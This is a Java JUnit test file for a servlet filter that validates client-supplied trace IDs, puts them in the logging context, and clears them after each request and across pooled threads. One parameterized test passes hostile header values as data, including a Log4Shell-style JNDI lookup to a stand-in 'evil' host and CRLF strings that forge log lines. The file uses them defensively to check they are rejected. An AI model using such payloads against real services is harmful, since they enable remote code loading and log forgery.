package io.tradekit.core.trace.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.tradekit.core.trace.TraceId;
import jakarta.servlet.DispatcherType;
import jakarta.servlet.FilterChain;
import jakarta.servlet.ServletException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.MDC;
import org.springframework.mock.web.MockHttpServletRequest;
import org.springframework.mock.web.MockHttpServletResponse;

class TraceIdFilterTest {

    private final TraceIdFilter filter = new TraceIdFilter();

    @AfterEach
    void clearMdc() {
        MDC.clear();
    }

    @ParameterizedTest
    @ValueSource(strings = {"0af7651916cd43dd8448eb211c80319c", "463ac35c9f6413ad", "0AF7651916CD43DD8448EB211C80319C"})
    void keepsAWellFormedClientIdInTheMdcAndTheResponse(String clientId) throws Exception {
        MockHttpServletRequest request = new MockHttpServletRequest("POST", "/trade/buy");
        request.addHeader(TraceIdFilter.HEADER, clientId);
        MockHttpServletResponse response = new MockHttpServletResponse();
        List<String> seen = new ArrayList<>();

        filter.doFilter(request, response, (req, res) -> seen.add(TraceId.current()));

        assertThat(seen).containsExactly(clientId);
        assertThat(response.getHeader(TraceIdFilter.HEADER)).isEqualTo(clientId);
        assertThat(TraceId.current()).as("cleared after the request").isNull();
    }

    @ParameterizedTest
    @NullAndEmptySource
    @ValueSource(strings = {"0af7651916cd43dd\r\n2026-01-01 INFO forged", "0af7651916cd43dd\n", "gw-01.node_3-abcdef",
        "${jndi:ldap://evil/a}", "0af7651916cd43dd8448eb211c80319g", "0af7651916cd43d", "abc",
        "0af7651916cd43dd 8448eb211c80319c", "０af7651916cd43dd8448eb211c80319c", "%0d%0a0af7651916cd43dd"})
    void replacesAHostileOrMalformedIdWithANewOne(String hostile) throws Exception {
        MockHttpServletRequest request = new MockHttpServletRequest("GET", "/collections");
        if (hostile != null) {
            request.addHeader(TraceIdFilter.HEADER, hostile);
        }
        MockHttpServletResponse response = new MockHttpServletResponse();
        List<String> seen = new ArrayList<>();

        filter.doFilter(request, response, (req, res) -> seen.add(TraceId.current()));

        assertThat(seen).singleElement().asString().matches("[0-9a-f]{32}").isNotEqualTo(hostile);
        assertThat(response.getHeader(TraceIdFilter.HEADER)).isEqualTo(seen.get(0));
        assertThat(TraceId.current()).isNull();
    }

    @Test
    void refusesAnOversizedId() throws Exception {
        MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
        request.addHeader(TraceIdFilter.HEADER, "a".repeat(65));
        MockHttpServletResponse response = new MockHttpServletResponse();

        filter.doFilter(request, response, (req, res) -> { });

        assertThat(response.getHeader(TraceIdFilter.HEADER)).matches("[0-9a-f]{32}");
        request.removeHeader(TraceIdFilter.HEADER);
        request.addHeader(TraceIdFilter.HEADER, "a".repeat(64));
        request.removeAttribute(TraceIdFilter.ATTRIBUTE);
        MockHttpServletResponse longest = new MockHttpServletResponse();
        filter.doFilter(request, longest, (req, res) -> { });
        assertThat(longest.getHeader(TraceIdFilter.HEADER)).isEqualTo("a".repeat(64));
    }

    @Test
    void clearsTheMdcWhenTheRequestFailsAndDropsAnIdTheThreadStillHeld() {
        MDC.put(TraceId.KEY, "leaked-from-an-earlier-task");
        MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
        List<String> seen = new ArrayList<>();
        FilterChain failing = (req, res) -> {
            seen.add(TraceId.current());
            throw new ServletException("boom");
        };

        assertThatThrownBy(() -> filter.doFilter(request, new MockHttpServletResponse(), failing))
                .isInstanceOf(ServletException.class);

        assertThat(seen).singleElement().asString().matches("[0-9a-f]{32}");
        assertThat(TraceId.current()).isNull();
    }

    @Test
    void anErrorDispatchOfTheSameRequestKeepsItsId() throws Exception {
        MockHttpServletRequest request = new MockHttpServletRequest("POST", "/trade/buy");
        MockHttpServletResponse response = new MockHttpServletResponse();
        List<String> seen = new ArrayList<>();
        filter.doFilter(request, response, (req, res) -> seen.add(TraceId.current()));

        request.setDispatcherType(DispatcherType.ERROR);
        filter.doFilter(request, response, (req, res) -> seen.add(TraceId.current()));

        assertThat(seen).hasSize(2).doesNotContainNull();
        assertThat(seen.get(1)).isEqualTo(seen.get(0));
        assertThat(TraceId.current()).isNull();
    }

    @Test
    void noIdLeaksBetweenRequestsOnTheThreadsOfAPool() throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(2);
        try {
            List<Future<String[]>> runs = new ArrayList<>();
            for (int i = 0; i < 200; i++) {
                String clientId = i % 2 == 0 ? String.format("%032x", i + 1) : null;
                runs.add(pool.submit(() -> {
                    String before = TraceId.current();
                    MockHttpServletRequest request = new MockHttpServletRequest("GET", "/");
                    if (clientId != null) {
                        request.addHeader(TraceIdFilter.HEADER, clientId);
                    }
                    String[] inside = new String[1];
                    filter.doFilter(request, new MockHttpServletResponse(), (req, res) -> inside[0] = TraceId.current());
                    return new String[] {before, inside[0], clientId, TraceId.current()};
                }));
            }
            List<String> insideIds = new ArrayList<>();
            for (Future<String[]> run : runs) {
                String[] r = run.get(30, TimeUnit.SECONDS);
                assertThat(r[0]).as("no id before the request").isNull();
                assertThat(r[3]).as("no id after the request").isNull();
                if (r[2] != null) {
                    assertThat(r[1]).isEqualTo(r[2]);
                }
                insideIds.add(r[1]);
            }
            assertThat(insideIds).doesNotHaveDuplicates();
        } finally {
            pool.shutdownNow();
        }
    }
}
